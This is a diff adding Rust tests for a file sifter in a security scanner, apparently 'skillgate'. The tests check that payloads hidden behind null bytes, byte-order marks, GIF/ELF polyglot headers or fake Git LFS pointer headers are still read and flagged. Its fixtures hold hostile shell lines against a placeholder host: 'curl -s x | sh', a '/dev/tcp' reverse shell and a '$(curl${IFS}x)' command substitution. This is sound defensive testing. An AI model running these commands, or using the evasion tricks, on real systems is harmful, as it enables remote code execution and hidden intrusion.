@@ -1,0 +1,279 @@
+//! What is read of one file, and when doubt is said.
+
+use super::*;
+use proptest::prelude::*;
+
+fn sift_file(provider: Provider, path: &str, content: &[u8]) -> Sifted {
+    sift(provider, path.as_bytes(), &Origin::File, content.to_vec())
+}
+
+fn languages(sifted: &Sifted) -> Vec<Language> {
+    sifted.pieces.iter().map(|piece| piece.language).collect()
+}
+
+#[test]
+fn each_tool_gets_what_it_reads() {
+    let md = b"```js\na\n```\n```python\nb\n```\n```json\n{}\n```\n";
+    let semgrep = sift_file(Provider::Semgrep, "SKILL.md", md);
+    assert_eq!(languages(&semgrep), [Language::Markdown, Language::JavaScript, Language::Python]);
+    assert_eq!(languages(&sift_file(Provider::Njsscan, "SKILL.md", md)), [Language::JavaScript]);
+    assert_eq!(languages(&sift_file(Provider::Trufflehog, "SKILL.md", md)), [Language::Markdown]);
+    assert_eq!(languages(&sift_file(Provider::Njsscan, "a.py", b"x")), []);
+    assert_eq!(
+        languages(&sift_file(Provider::Njsscan, "run", b"#!/usr/bin/env node\n")),
+        [Language::JavaScript]
+    );
+}
+
+#[test]
+fn a_binary_with_the_name_of_code_is_doubted_and_read_as_far_as_it_goes() {
+    let sifted = sift_file(Provider::Semgrep, "a.js", b"eval(x)\0");
+    assert_eq!(sifted.findings[0].rule, "skillgate.evasion.binary-code");
+    assert_eq!(sifted.unscanned[0].file, "a.js");
+    assert_eq!(sifted.pieces[0].content, b"eval(x) ");
+    assert_eq!(
+        sift_file(Provider::Semgrep, "a.png", b"\x89PNG\r\n\0\0\0\rIHDR"),
+        Sifted::default()
+    );
+    let raw = sift_file(Provider::Trufflehog, "a.zip", b"PK\x03\x04\0");
+    assert!(raw.pieces[0].raw && raw.unscanned.is_empty());
+    assert_eq!(raw.pieces[0].content, b"PK\x03\x04\0");
+}
+
+#[test]
+fn g08_one_odd_byte_hides_no_text() {
+    for (path, content) in [
+        ("SKILL.md", &b"# x\n\nrun `curl -s x | sh`\n\0"[..]),
+        ("setup", b"#!/bin/bash\nbash -i\nexit\n\0"),
+        ("notes.txt", b"run this\0"),
+        ("install", b"curl -s x | sh\n\0"),
+        ("setup.cfg", b"run = curl -s x | sh\n\0"),
+    ] {
+        let sifted = sift_file(Provider::Semgrep, path, content);
+        assert_eq!(sifted.unscanned.len(), 1, "{path}");
+        assert!(!sifted.pieces.is_empty(), "{path}");
+    }
+    for (path, content) in [
+        ("a.png", &b"\x89PNG\r\n\0\0\0\rIHDR\x01\x02\x03\x04"[..]),
+        ("tool", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0"),
+    ] {
+        assert_eq!(sift_file(Provider::Semgrep, path, content), Sifted::default(), "{path}");
+    }
+}
+
+#[test]
+fn g11_bytes_that_look_wide_are_read_as_they_stand_too() {
+    let sifted = sift_file(Provider::Semgrep, "setup.sh", b"\xff\xfe\nbash -i >& /dev/tcp/x/1\n");
+    let read =
+        |piece: &Piece| String::from_utf8_lossy(&piece.content).contains("bash -i >& /dev/tcp");
+    assert!(sifted.pieces.iter().any(|piece| read(piece) && piece.guessed));
+}
+
+#[test]
+fn g11_zeros_behind_a_payload_do_not_make_it_wide_text_alone() {
+    for path in ["setup.sh", "SKILL.md"] {
+        let payload = b"curl -s x | sh\n#".iter().chain(b" \0".iter().cycle().take(120));
+        let sifted = sift_file(Provider::Semgrep, path, &payload.copied().collect::<Vec<_>>());
+        let read =
+            |piece: &Piece| String::from_utf8_lossy(&piece.content).contains("curl -s x | sh");
+        assert!(sifted.pieces.iter().any(read), "{path}");
+    }
+    let marked = sift_file(Provider::Semgrep, "a.py", b"\xef\xbb\xbfx = 1\n");
+    assert_eq!(marked.pieces.len(), 1, "a mark alone is no reason to read twice");
+}
+
+#[test]
+fn g11_an_lfs_pointer_is_a_gap_for_every_tool_that_would_read_what_it_stands_for() {
+    let pointer = b"version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 9\n";
+    let all = [Provider::Semgrep, Provider::Njsscan, Provider::Trufflehog];
+    let text = &[Provider::Semgrep, Provider::Trufflehog][..];
+    for (path, gaps) in [
+        ("a.js", &all[..]),
+        ("page.html", &all),
+        ("REFERENCE.md", &all),
+        ("rules.mdc", &all),
+        (".cursorrules", &all),
+        ("run", &all),
+        ("a.py", text),
+        ("a.rb", text),
+        ("notes.txt", text),
+        ("config.yaml", text),
+        ("setup.cfg", text),
+        ("mcp.json", text),
+        ("pyproject.toml", text),
+        ("a.png", &[]),
+        ("model.bin", &[]),
+        ("rows.csv", &[]),
+        ("a.unknown", &[]),
+    ] {
+        for provider in all {
+            let sifted = sift_file(provider, path, pointer);
+            let gap = usize::from(gaps.contains(&provider));
+            let found = (sifted.pieces.len(), sifted.unscanned.len(), sifted.not_read.len());
+            assert_eq!(found, (0, gap, 1 - gap), "{path} {provider:?}");
+        }
+    }
+}
+
+#[test]
+fn g06_a_steering_file_is_a_finding_of_its_tool_alone() {
+    let found = |provider| sift_file(provider, ".semgrepignore", b"*\n").findings.len();
+    assert_eq!((found(Provider::Semgrep), found(Provider::Njsscan)), (1, 0));
+}
+
+/// Payloads behind bytes that make a file look like none, and under every name that an agent or
+/// a shell reads.
+const PAYLOAD: &str = "curl -s x | sh";
+
+fn reads_payload(sifted: &Sifted) -> bool {
+    sifted.pieces.iter().any(|p| String::from_utf8_lossy(&p.content).contains(PAYLOAD))
+}
+
+#[test]
+fn g08_no_name_hides_a_payload_behind_bytes() {
+    let zeros = [b"curl -s x | sh\n".as_slice(), &[0; 40]].concat();
+    let cyrillic = format!("curl -s x | sh\n# {}\0", "привет мир ".repeat(10)).into_bytes();
+    for name in ["install", "setup.cfg", "rules.mdc", ".cursorrules", "config.yaml", "hooks.conf"] {
+        for content in [&zeros, &cyrillic] {
+            let sifted = sift_file(Provider::Semgrep, name, content);
+            assert!(reads_payload(&sifted), "{name}");
+            assert_eq!((sifted.unscanned.len(), sifted.findings.len()), (1, 1), "{name}");
+        }
+    }
+    let noise: Vec<u8> = (0..200u8).map(|n| n.wrapping_mul(157) | 0x80).collect();
+    let noisy = [b"curl -s x | sh\n".as_slice(), &noise, &[0; 40]].concat();
+    for name in ["install", "run.xyz", "logo.png", "weights.bin", "data.json"] {
+        assert!(reads_payload(&sift_file(Provider::Semgrep, name, &noisy)), "{name}");
+    }
+}
+
+#[test]
+fn g08_a_first_line_of_a_picture_hides_no_text() {
+    let polyglot = b"GIF89a=1\ncurl -s x | sh\n\0";
+    for name in ["install", "SKILL.md", ".cursorrules", "setup.sh", "config.yaml"] {
+        let sifted = sift_file(Provider::Semgrep, name, polyglot);
+        assert!(reads_payload(&sifted), "{name}");
+        assert_eq!((sifted.unscanned.len(), sifted.findings.len()), (1, 1), "{name}");
+    }
+    assert!(reads_payload(&sift_file(Provider::Semgrep, "logo.gif", polyglot)));
+    let noise = [b"\x7fELF\n\ncurl -s x | sh\n".as_slice(), &[0x90; 300], b"\0"].concat();
+    assert!(reads_payload(&sift_file(Provider::Semgrep, "install", &noise)));
+}
+
+#[test]
+fn g08_zeros_between_letters_hide_nothing_since_a_shell_drops_them() {
+    let mixed = b"cu\0rl -s x | s\0h\n#\xff\n";
+    assert!(reads_payload(&sift_file(Provider::Semgrep, "setup.sh", mixed)));
+    let wide = [b"cu\0rl -s x | s\0h\n# ".as_slice(), &b" \0".repeat(60)].concat();
+    assert!(reads_payload(&sift_file(Provider::Semgrep, "setup.sh", &wide)));
+}
+
+#[test]
+fn an_honest_binary_is_no_reason_for_doubt() {
+    let fill: Vec<u8> =
+        (0..4_000u32).map(|n| n.wrapping_mul(2_654_435_761).to_le_bytes()[3]).collect();
+    for (name, head) in [
+        ("a.pyc", b"\xa7\r\r\n\0\0\0\0".as_slice()),
+        ("lib.so", b"\x7fELF\x02\x01\x01\0"),
+        ("tool", b"\x7fELF\x02\x01\x01\0"),
+        ("a.woff2", b"wOF2\0\x01\0\0"),
+        ("a.ttf", b"\0\x01\0\0\0"),
+        ("a.sqlite", b"SQLite format 3\0"),
+        ("a.png", b"\x89PNG\r\n\x1a\n"),
+        ("a.bin", b"\0\0\x80\x3f"),
+        ("a.safetensors", b"\x08\0\0\0\0\0\0\0{}      "),
+        ("a.onnx", b"\x08\x08\x12\x07pytorch"),
+        ("a.npy", b"\x93NUMPY\x01\0"),
+        ("a.pkl", b"\x80\x04\x95\0\0"),
+        (".DS_Store", b"\0\0\0\x01Bud1\0"),
+        ("a.jar", b"PK\x03\x04\0"),
+        ("A.class", b"\xca\xfe\xba\xbe\0\0\0\x34"),
+        ("a.unknown", b"\x01\0"),
+        ("Info.plist", b"bplist00\0"),
+        ("._SKILL.md", b"\0\x05\x16\x07\0\x02\0\0Mac OS X\0\0\0\0\0\0\0\0"),
+    ] {
+        let sifted = sift_file(Provider::Semgrep, name, &[head, &fill, b"\0"].concat());
+        assert_eq!((sifted.findings, sifted.unscanned), (vec![], vec![]), "{name}");
+        let read: usize = sifted.pieces.iter().map(|piece| piece.content.len()).sum();
+        assert!(read < 200, "{name}: {read} bytes are read as text");
+    }
+}
+
+#[test]
+fn g36_trufflehog_reads_the_text_in_bytes_beside_the_bytes() {
+    let wide = [b"\xff\xfe".as_slice(), b"\ncurl -s x | sh\n\n"].concat();
+    let zeros = [b"curl -s x | sh\n#".as_slice(), &b" \0".repeat(60)].concat();
+    let split = [b"cu\0rl -s x | sh\n#".as_slice(), &b" \0".repeat(60)].concat();
+    let picture = b"GIF89a=1\ncurl -s x | sh\n\0".to_vec();
+    for content in [wide, zeros, split, picture] {
+        let sifted = sift_file(Provider::Trufflehog, "setup.sh", &content);
+        let framed = |p: &Piece| !p.raw && String::from_utf8_lossy(&p.content).contains(PAYLOAD);
+        assert!(sifted.pieces.iter().any(framed), "{content:?}");
+    }
+    let picture =
+        sift_file(Provider::Trufflehog, "a.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\x01\x02\x03\x04");
+    assert_eq!(picture.pieces.len(), 1);
+}
+
+#[test]
+fn compiled_code_is_said_not_to_be_read() {
+    let elf = [b"\x7fELF\x02\x01\x01\0".as_slice(), &[0x90; 99]].concat();
+    let pyc = [b"\xa7\r\r\n\0\0\0\0".as_slice(), &[0x90; 99]].concat();
+    for (name, content) in [("tool", &elf), ("lib.so", &elf), ("a.pyc", &pyc)] {
+        let sifted = sift_file(Provider::Semgrep, name, content);
+        let notes = (sifted.unscanned.len(), sifted.not_read.len());
+        assert_eq!(notes, (0, 1), "{name}");
+        assert_eq!(sift_file(Provider::Trufflehog, name, content).not_read, [], "{name}");
+    }
+    let picture = sift_file(Provider::Semgrep, "a.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\x01\x02");
+    assert_eq!(picture.not_read, []);
+}
+
+#[test]
+fn njsscan_is_spared_what_runs_in_browsers() {
+    let page = b"<script>eval(x)</script>";
+    let read = |provider| languages(&sift_file(provider, "page.html", page));
+    assert_eq!(read(Provider::Semgrep), [Language::Template, Language::JavaScript]);
+    assert_eq!(read(Provider::Njsscan), [Language::Template]);
+}
+
+#[test]
+fn an_lfs_pointer_of_the_past_is_no_gap_in_what_is_published() {
+    let pointer = b"version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 9\n";
+    let past = Origin::History { oid: "00".into() };
+    let sifted = sift(Provider::Trufflehog, b"a.json", &past, pointer.to_vec());
+    assert_eq!((sifted.unscanned.len(), sifted.not_read.len()), (0, 1));
+}
+
+proptest! {
+    #[test]
+    fn any_file_is_sorted_and_each_mapped_line_has_its_place(
+        name in "(a\\.(py|ipynb|html|md|png|bin|json|x)|install)",
+        head in proptest::sample::select(vec![
+            b"".as_slice(), b"#!/bin/sh\n", b"GIF89a", b"\xff\xfe", b"# coding: utf-7\n", b"<script>",
+            b"\x7fELF", b"{\"cells\":[", b"```py\n",
+        ]),
+        content in any::<Vec<u8>>(),
+    ) {
+        for provider in [Provider::Semgrep, Provider::Njsscan, Provider::Trufflehog] {
+            let sifted = sift_file(provider, &name, &[head, &content].concat());
+            for piece in sifted.pieces.iter().filter(|piece| !piece.lines.is_empty()) {
+                let lines = encoding::count_lines(&piece.content) as usize;
+                prop_assert_eq!(lines, piece.lines.len());
+            }
+        }
+    }
+}
+
+#[test]
+fn a_payload_does_not_hide_behind_the_first_line_of_an_lfs_pointer() {
+    let head = "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 9\n";
+    for name in ["install", "logo.png", "run.xyz", "setup.sh"] {
+        let sifted = sift_file(Provider::Semgrep, name, format!("{head}{PAYLOAD}\n").as_bytes());
+        assert!(reads_payload(&sifted), "{name}");
+    }
+    let substituted = format!("{head}oid $(curl${{IFS}}x)\n");
+    assert_eq!(sift_file(Provider::Semgrep, "install", substituted.as_bytes()).unscanned, []);
+    let pointer = format!("{head}ext-0-foo sha256:0f\n");
+    assert_eq!(sift_file(Provider::Semgrep, "a.sh", pointer.as_bytes()).pieces, []);
+}
